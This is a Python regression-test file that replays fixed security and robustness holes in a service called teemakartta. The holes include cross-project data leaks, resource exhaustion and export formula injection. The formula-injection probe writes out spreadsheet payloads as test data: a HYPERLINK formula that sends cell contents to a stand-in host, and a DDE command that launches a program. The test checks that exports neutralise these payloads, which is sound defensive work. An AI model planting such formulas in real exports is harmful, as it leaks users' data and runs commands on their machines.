"""A probe of the running service: the holes issue 12 found, replayed over HTTP against a
real ``teemakartta serve`` process (SQLite, as ``make run`` starts it), each asserting
the fixed behaviour.

One function per item of the issue, ``probe_<what>(service)``, listed in ``PROBES`` by
item number; each uses projects of its own, so they run in any order on one server. To
add an item, write its function and list it. Item 4 (the UI signed anyone in as
administrator) needs a browser: ``tests/e2e/test_sign_in.py`` replays it.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from evaluation.bench.common import csv_upload
from service.config import REPO_ROOT
from tests.e2e.servers import Servers, api_only
from tests.shared import shared_file

pytestmark = pytest.mark.slow

ROWS = 400  # proposals in a "big" upload: minutes of work for the service, ~190 kB
TIMEOUT = 1800  # seconds: a liveness bound for one wait, never a speed claim


@dataclass
class Service:
    """The probed server: its address, data folder and an administrator's client."""

    servers: Servers
    data_dir: Path
    admin: httpx.Client

    def user(self, name: str, project: str, role: str) -> httpx.Client:
        """A new user with ``role`` in ``project``, signed in."""
        token = self.admin.post("/users", json={"name": name}).json()["token"]
        added = self.admin.put(f"/projects/{project}/members/{name}", json={"role": role})
        assert added.status_code == 200, added.text
        return httpx.Client(
            base_url=self.servers.api_url,
            timeout=TIMEOUT,
            headers={"Authorization": f"Bearer {token}"},
        )

    def project(self, name: str) -> None:
        assert self.admin.post("/projects", json={"name": name}).status_code == 201

    def upload(self, project: str, name: str, content: bytes, wait: bool) -> httpx.Response:
        return self.admin.post(
            f"/projects/{project}/documents?wait={str(wait).lower()}",
            data={"region": "Helsinki"},
            files=[("files", (name, content))],
        )

    def job_until(self, job_id: str, done: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
        deadline = time.monotonic() + TIMEOUT
        while time.monotonic() < deadline:
            job = self.admin.get(f"/jobs/{job_id}").json()
            if done(job):
                return job
            time.sleep(0.1)
        raise AssertionError(f"job {job_id} never got there: {job}")

    def big_upload(self, project: str, first_row: int) -> str:
        """Start ingesting ROWS real proposals (from ``first_row``, so no two big uploads
        share cached vectors); returns the job id once it runs."""
        lines = shared_file("data/omastadi_proposals.jsonl").read_text().splitlines()
        texts = [json.loads(line)["text"] for line in lines[first_row : first_row + ROWS]]
        answer = self.upload(project, "ehdotukset.csv", csv_upload(texts), wait=False)
        assert answer.status_code == 202, answer.text
        job_id = answer.json()["job_id"]
        self.job_until(job_id, lambda job: job["state"] != "queued")
        return job_id


def running(job: dict[str, Any]) -> bool:
    return job["state"] == "running"


def ended(job: dict[str, Any]) -> bool:
    return job["state"] in ("succeeded", "failed")


def probe_deleted_project_data(service: Service) -> None:
    """1: a deleted project's notes were served to the next new project."""
    service.project("salainen")
    secret = "SALAINEN: henkilöstön irtisanomiset alkavat maaliskuussa Kajaanissa."
    assert service.upload("salainen", "m.txt", f"- {secret}\n".encode(), True).status_code == 201
    old = service.admin.get("/projects/salainen/notes").json()["notes"]
    assert [n["text"] for n in old] == [secret]
    assert service.admin.delete("/projects/salainen").status_code == 204
    service.project("bob")
    bob = service.user("bob", "bob", "evaluator")
    own = "Kuntien yhteistyö tiivistyy uuden hankkeen myötä Kainuussa."
    assert service.upload("bob", "m.txt", f"- {own}\n".encode(), True).status_code == 201
    notes = bob.get("/projects/bob/notes").json()["notes"]
    assert [n["text"] for n in notes] == [own]
    assert notes[0]["id"] > old[0]["id"] and notes[0]["document_id"] > old[0]["document_id"]


def probe_job_dies_with_its_project(service: Service) -> None:
    """2: deleting a project mid-ingest sent its document into the next new project."""
    service.project("vanha")
    job_id = service.big_upload("vanha", first_row=0)
    service.job_until(job_id, lambda job: running(job) and job["progress"] >= 0.15)
    assert service.admin.delete("/projects/vanha").status_code == 204
    service.project("uusi")
    eve = service.user("eve", "uusi", "evaluator")
    job = service.job_until(job_id, ended)
    assert job["state"] == "failed" and "project was deleted" in job["error"]
    assert eve.get(f"/jobs/{job_id}").json()["error"] == job["error"]
    assert eve.get("/projects/uusi/notes").json()["total"] == 0


def probe_huge_note(service: Service) -> None:
    """5: one 4.9M-character note was accepted whole and took the service to 11 GB, and
    other projects' jobs waited behind it."""
    service.project("jattilainen")
    phrase = "yhteistyö on tärkeää "
    huge = service.upload(
        "jattilainen", "iso.txt", (phrase * (4_900_000 // len(phrase))).encode(), True
    )
    assert huge.status_code == 422 and "no sentence or clause break" in huge.json()["detail"]
    long_text = "Kuntien " + "yhteistyö vahvistaa alueen elinvoimaa, " * 200
    split = service.upload("jattilainen", "pitka.txt", long_text.encode(), True)
    assert split.status_code == 201 and split.json()["files"][0]["note_count"] == 4
    notes = service.admin.get("/projects/jattilainen/notes").json()["notes"]
    assert max(len(n["text"]) for n in notes) <= 2000
    # A big job of one project does not hold up another project's small one.
    service.project("suuri")
    service.project("pieni")
    big = service.big_upload("suuri", first_row=ROWS)
    small = service.upload("pieni", "m.txt", b"- Pieni muistio tulee heti perille.\n", True)
    assert small.status_code == 201
    assert service.admin.get(f"/jobs/{big}").json()["state"] == "running"
    assert service.job_until(big, ended)["state"] == "succeeded"


def probe_waiting_requests(service: Service) -> None:
    """6: 45 parallel `POST /runs?wait=true` held every connection; another user's
    `GET notes` got a 500 after 30 s."""
    service.project("kiire")
    service.project("rauha")
    reader = service.user("lukija", "rauha", "evaluator")
    assert service.upload("rauha", "m.txt", b"- Rauhallinen muistio.\n", True).status_code == 201
    holding = service.big_upload("kiire", first_row=0)  # the runs queue behind this job

    def run(_: int) -> httpx.Response:
        return service.admin.post("/projects/kiire/runs?wait=true", json={})

    with ThreadPoolExecutor(max_workers=45) as pool:
        answers = [pool.submit(run, i) for i in range(45)]
        deadline = time.monotonic() + TIMEOUT
        while sum(a.done() for a in answers) < 45 - 8 and time.monotonic() < deadline:
            time.sleep(0.1)
        early = [a.result() for a in answers if a.done()]
        assert len(early) == 45 - 8  # TEEMA_MAX_WAITING_REQUESTS wait, the rest do not
        assert all(a.status_code == 202 and a.headers["Retry-After"] for a in early)
        for _ in range(5):
            assert reader.get("/projects/rauha/notes").status_code == 200
            assert httpx.get(f"{service.servers.api_url}/health").status_code == 200
        # Deleting the project ends its jobs, and with them the waits.
        assert service.admin.delete("/projects/kiire").status_code == 204
        statuses = sorted(a.result().status_code for a in answers)
    assert statuses == [201] * 8 + [202] * 37
    assert service.admin.get(f"/jobs/{holding}").json()["state"] == "failed"


def probe_second_instance(service: Service) -> None:
    """7: a second `serve` on the same data failed the first one's running job, which
    then ended 'succeeded' with the error still attached."""
    service.project("kaksi")
    job_id = service.big_upload("kaksi", first_row=2 * ROWS)
    port = service.servers.api_url.rsplit(":", 1)[1]
    same_port = subprocess.run(
        [sys.executable, "-m", "service.cli", "serve", "--port", port],
        cwd=REPO_ROOT,
        env={**os.environ, "TEEMA_DATA_DIR": str(service.data_dir)},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert same_port.returncode == 2 and "is in use" in same_port.stderr
    assert running(service.admin.get(f"/jobs/{job_id}").json())
    # Even on another port (its start-up recovers jobs), the live instance's job stays.
    with api_only(service.data_dir, log="second.log"):
        assert running(service.admin.get(f"/jobs/{job_id}").json())
    job = service.job_until(job_id, ended)
    assert job["state"] == "succeeded" and job["error"] is None, job


FORMULAS = (
    '=HYPERLINK("http://x.example/?leak="&A1,"click") avaa linkki tästä heti',
    "=cmd|' /C calc'!A0 ja muuta tekstiä perään",
    "+358 on Suomen maakoodi puhelinnumeroissa",
    "-10 % väheneminen työvoimassa Kainuussa",
    "@kaikki osallistujat mukaan tapaamiseen",
    "\t=1+1 sarkaimen jälkeen kaava",
)


def probe_formula_injection(service: Service) -> None:
    """3: notes, file names and theme names starting with = + - @ (or a tab then one)
    became live formulas in the XLSX and CSV exports."""
    import csv
    import io
    import zipfile

    service.project("kaava")
    lines = shared_file("data/omastadi_proposals.jsonl").read_text().splitlines()[:12]
    texts = [*FORMULAS, *(json.loads(line)["text"] for line in lines)]
    answer = service.upload("kaava", "=cmd.csv", csv_upload(texts), True)
    assert answer.status_code == 201, answer.text
    run = service.admin.post("/projects/kaava/runs?wait=true", json={})
    assert service.admin.get(f"/jobs/{run.json()['job_id']}").json()["state"] == "succeeded"
    theme = service.admin.get("/projects/kaava/themes").json()["themes"][0]
    renamed = service.admin.patch(f"/projects/kaava/themes/{theme['id']}", json={"name": "=1+1"})
    assert renamed.status_code == 200, renamed.text
    exported = service.admin.get("/projects/kaava/export?format=csv")
    assert exported.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+1" in cells and any(c.startswith("'=HYPERLINK(") for c in cells)
    xlsx = service.admin.get("/projects/kaava/export?format=xlsx")
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


def probe_document_deleted_around_runs(service: Service) -> None:
    """8: deleting a document while a run fitted lost the run (IntegrityError), and
    deleting one without a run left theme sizes and the run's note count stale."""
    service.project("poisto")
    lines = shared_file("data/omastadi_proposals.jsonl").read_text().splitlines()
    for i in range(3):
        texts = [json.loads(line)["text"] for line in lines[40 * i : 40 * i + 40]]
        answer = service.upload("poisto", f"osa{i}.csv", csv_upload(texts), True)
        assert answer.status_code == 201, answer.text
    listed = service.admin.get("/projects/poisto/documents").json()
    documents = [d["id"] for d in sorted(listed, key=lambda d: d["filename"])]
    run = service.admin.post("/projects/poisto/runs?wait=true", json={}).json()["job_id"]
    assert service.admin.get(f"/jobs/{run}").json()["state"] == "succeeded"

    def consistent() -> None:
        table = service.admin.get("/projects/poisto/themes").json()
        total = service.admin.get("/projects/poisto/notes?limit=1").json()["total"]
        assert sum(t["size"] for t in table["themes"]) + table["unassigned"] == total
        assert table["run"]["note_count"] == total

    assert service.admin.delete(f"/projects/poisto/documents/{documents[0]}").status_code == 204
    consistent()
    started = service.admin.post("/projects/poisto/runs", json={}).json()["job_id"]
    service.job_until(started, lambda job: job["state"] != "queued")
    assert service.admin.delete(f"/projects/poisto/documents/{documents[1]}").status_code == 204
    job = service.job_until(started, ended)
    assert job["state"] == "succeeded", job
    consistent()


PROBES: dict[int, Callable[[Service], None]] = {
    1: probe_deleted_project_data,
    2: probe_job_dies_with_its_project,
    3: probe_formula_injection,
    5: probe_huge_note,
    6: probe_waiting_requests,
    7: probe_second_instance,
    8: probe_document_deleted_around_runs,
}


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    data_dir = tmp_path_factory.mktemp("probe")
    with api_only(data_dir) as servers:
        admin = httpx.Client(
            base_url=servers.api_url,
            timeout=TIMEOUT,
            headers={"Authorization": f"Bearer {servers.token}"},
        )
        yield Service(servers, data_dir, admin)


@pytest.mark.parametrize("item", sorted(PROBES))
def test_probe(item: int, service: Service) -> None:
    PROBES[item](service)
